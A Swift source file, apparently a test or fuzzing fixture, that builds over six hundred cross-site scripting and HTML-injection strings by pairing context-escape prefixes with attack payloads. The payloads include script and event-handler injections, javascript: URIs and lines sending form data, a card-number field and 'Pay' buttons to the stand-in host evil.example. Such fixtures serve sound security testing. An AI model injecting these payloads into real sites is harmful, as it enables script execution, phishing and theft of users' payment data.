/// Texts by which people break out of a page, each by every way out of its place.
enum Payloads {
  /// Six hundred and more.
  static let all: [String] = exits.flatMap { exit in attacks.map { exit + $0 } }

  /// How a text gets out of the place where it stands.
  private static let exits = [
    "", "\"", "'", "\">", "'>", "\" ", "' ", "`", ">", "--></", "]]>", "</title>", "</option>",
    "</textarea>", "</script>", "</style>", "</svg>", "</p></main>", "\u{0}", "\u{1B}\u{9B}",
    "\u{2028}\">", "\u{FF1E}\u{FF1C}", "&quot;>", "&#34;>", "&#x22&#x3E", "\\\">", "%22%3E",
    "{0}{1}", "\r\n\r\n", "\u{202E}",
  ]

  /// What then would be done.
  private static let attacks = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "onmouseover=alert(1) x=",
    "autofocus onfocus=alert(1) x=", "style=position:fixed;inset:0 x=", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<form action=https://evil.example><input name=pan>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<a href=//evil.example>Pay</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<!--", "<![CDATA[",
    "formaction=https://evil.example x=", "<button form=f formaction=//evil.example>Pay</button>",
  ]
}
